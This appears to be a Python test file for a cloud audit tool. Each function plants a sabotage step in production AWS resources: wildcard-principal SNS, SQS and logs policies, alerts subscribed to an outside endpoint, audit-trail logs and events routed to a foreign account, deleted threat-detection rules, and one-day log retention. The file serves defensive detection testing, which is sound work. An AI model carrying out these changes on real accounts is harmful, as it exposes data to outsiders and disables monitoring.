"""Topics, queues, events and logs: who may publish, and who listens in."""

import json

from tests.paved.audit.sabotage.hand import FOREIGN, PROD, Hand, Seen, beside, changed, extra, sabotage

ALERTS = f"arn:aws:sns:us-east-1:{PROD}:paved-vision-prod-alerts"
RULE = "paved-vision-prod-retrain-new-labels"
TRAIL_LOG = "/paved/foundation-prod/trail"


@sabotage(
    "a statement more in the policy of a topic",
    extra("sns TopicPolicy vision-prod-policy", "policy statement `Theirs`", "public access"),
    stack="vision-prod",
)
def topic_policy(hand: Hand) -> None:
    policy = json.loads(hand("sns").get_topic_attributes(TopicArn=ALERTS)["Attributes"]["Policy"])
    more = {"Sid": "Theirs", "Effect": "Allow", "Principal": "*", "Action": "sns:Publish", "Resource": ALERTS}
    policy["Statement"].append(more)
    hand("sns").set_topic_attributes(
        TopicArn=ALERTS, AttributeName="Policy", AttributeValue=json.dumps(policy)
    )


@sabotage(
    "alerts sent to an address of nobody's",
    extra("sns Topic vision-prod", "subscription", "public access"),
    stack="vision-prod",
)
def listen_in(hand: Hand) -> None:
    hand("sns").subscribe(TopicArn=ALERTS, Protocol="https", Endpoint="https://example.net/k3y")


@sabotage(
    "a queue that anybody may send to",
    extra("sqs Queue* *", "policy statement `Theirs`", "public access"),
)
def queue(hand: Hand) -> None:
    url = hand("sqs").get_queue_url(QueueName="paved-foundation-prod-interruptions")["QueueUrl"]
    asked = hand("sqs").get_queue_attributes(QueueUrl=url, AttributeNames=["All"])["Attributes"]
    policy = json.loads(asked["Policy"])
    more = {"Sid": "Theirs", "Effect": "Allow", "Principal": "*", "Action": "sqs:SendMessage"}
    policy["Statement"].append({**more, "Resource": asked["QueueArn"]})
    hand("sqs").set_queue_attributes(QueueUrl=url, Attributes={"Policy": json.dumps(policy)})


@sabotage(
    "a planned event sent to another target as well",
    extra("cloudwatch EventRule vision-prod-new-labels-rule", "target", "settings", "low"),
    stack="vision-prod",
)
def target(hand: Hand) -> None:
    theirs = {"Id": "theirs", "Arn": f"arn:aws:sqs:us-east-1:{FOREIGN}:theirs"}
    hand("events").put_targets(Rule=RULE, Targets=[theirs])


@sabotage(
    "a rule of events switched off",
    changed("cloudwatch EventRule vision-prod-new-labels-rule", "state", "settings", "low"),
    stack="vision-prod",
)
def disabled(hand: Hand) -> None:
    hand("events").disable_rule(Name=RULE)


@sabotage(
    "a rule of events deleted",
    Seen("missing", "low", "settings", "cloudwatch EventRule foundation-prod-findings-threats"),
    Seen("missing", "low", "settings", "cloudwatch EventTarget foundation-prod-findings-threats"),
)
def deleted(hand: Hand) -> None:
    rule = "paved-foundation-prod-found-threats"
    ids = [each["Id"] for each in hand("events").list_targets_by_rule(Rule=rule)["Targets"]]
    hand("events").remove_targets(Rule=rule, Ids=ids)
    hand("events").delete_rule(Name=rule)


@sabotage(
    "a rule of events that nobody planned, without a tag",
    beside(f"arn:aws:events:us-east-1:{PROD}:rule/theirs", "settings", "low"),
)
def more_events(hand: Hand) -> None:
    hand("events").put_rule(Name="theirs", EventPattern='{"source":["aws.s3"]}')


@sabotage("another event bus", beside(f"arn:aws:events:us-east-1:{PROD}:event-bus/theirs", "settings", "low"))
def bus(hand: Hand) -> None:
    hand("events").create_event_bus(Name="theirs")


@sabotage(
    "events of another account let into the account's own bus",
    beside(f"arn:aws:events:us-east-1:{PROD}:event-bus/default", "public access"),
)
def bus_policy(hand: Hand) -> None:
    hand("events").put_permission(Action="events:PutEvents", Principal=FOREIGN, StatementId="theirs")


@sabotage(
    "the records of the audit trail sent elsewhere as well",
    extra("cloudwatch LogGroup foundation-prod-trail-events", "subscription filter", "logging", "medium"),
)
def subscription(hand: Hand) -> None:
    arn = hand("iam").get_role(RoleName="paved-foundation-prod-trail")["Role"]["Arn"]
    filters = [
        {
            "filterName": "theirs",
            "filterPattern": "",
            "logGroupName": TRAIL_LOG,
            "destinationArn": f"arn:aws:logs:us-east-1:{FOREIGN}:destination:theirs",
            "roleArn": arn,
        }
    ]

    def listed(real, request):
        return {"subscriptionFilters": filters} if request["logGroupName"] == TRAIL_LOG else real(**request)

    hand.answers["logs.DescribeSubscriptionFilters"] = listed


@sabotage(
    "a filter of the audit trail that counts no more",
    Seen("missing", "medium", "logging", "cloudwatch LogMetricFilter *"),
)
def metric(hand: Hand) -> None:
    found = hand("logs").describe_metric_filters(logGroupName=TRAIL_LOG)["metricFilters"][0]
    hand("logs").delete_metric_filter(logGroupName=TRAIL_LOG, filterName=found["filterName"])


@sabotage("a policy of all logs of the region", beside("logs resource policy theirs", "public access"))
def logs_policy(hand: Hand) -> None:
    statement = {"Effect": "Allow", "Principal": "*", "Action": "logs:*", "Resource": "*"}
    text = json.dumps({"Version": "2012-10-17", "Statement": [statement]})
    hand("logs").put_resource_policy(policyName="theirs", policyDocument=text)


@sabotage(
    "logs kept for a day",
    changed("cloudwatch LogGroup foundation-prod-flow-logs-records", "retentionInDays", "logging", "medium"),
)
def retention(hand: Hand) -> None:
    hand("logs").put_retention_policy(logGroupName="/paved/foundation-prod/flow-logs", retentionInDays=1)
